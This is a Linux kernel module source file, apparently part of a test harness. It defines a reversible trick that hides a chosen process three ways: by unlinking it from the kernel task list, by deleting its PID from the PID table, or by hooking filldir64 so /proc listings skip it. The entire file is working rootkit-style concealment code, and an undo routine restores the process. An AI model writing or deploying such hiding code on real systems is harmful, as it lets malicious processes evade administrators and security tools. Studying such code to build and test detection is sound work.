// SPDX-License-Identifier: GPL-2.0
/* A process taken out of the kernel's own books, and put back: out of the task list, or out of the
 * PID table; variant=listing: out of what listings of folders tell. */
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/string.h>

#include "divert.h"
#include "kernel.h"
#include "vtest.h"

static struct task_struct *task;
static struct pid *number;
static const char *way;

static void let_go(void)
{
	put_task_struct(task);
	put_pid(number);
}

static int start(const char *variant, int pid)
{
	int err = 0;

	number = find_get_pid(pid);
	task = number ? get_pid_task(number, PIDTYPE_TGID) : NULL;
	if (!task) {
		put_pid(number);
		return -ESRCH;
	}
	way = variant;
	preempt_disable();
	if (!strcmp(variant, "tasklist"))
		list_del_rcu(&task->tasks);
	else if (!strcmp(variant, "pidtable"))
		idr_remove(&init_pid_ns.idr, pid);
	else if (strcmp(variant, "listing"))
		err = -EINVAL;
	preempt_enable();
	if (!strcmp(variant, "listing")) {
		filter_pid(pid);
		err = divert("filldir64", filter_entry, (void **)&real_filldir);
	}
	say("hidden from %s: pid %d, comm %s%s", variant, pid, task->comm, err ? ", failed" : "");
	if (err)
		let_go();
	return err;
}

static void undo(void)
{
	if (!strcmp(way, "tasklist")) {
		preempt_disable();
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
		preempt_enable();
	} else if (!strcmp(way, "pidtable")) {
		int nr = pid_nr(number);

		idr_preload(GFP_KERNEL);
		idr_alloc(&init_pid_ns.idr, number, nr, nr + 1, GFP_ATOMIC);
		idr_preload_end();
	} else {
		undivert();
	}
	say("shown again: pid %d", task_pid_nr(task));
	let_go();
}

const struct trick hide_trick = {"hide", start, undo};
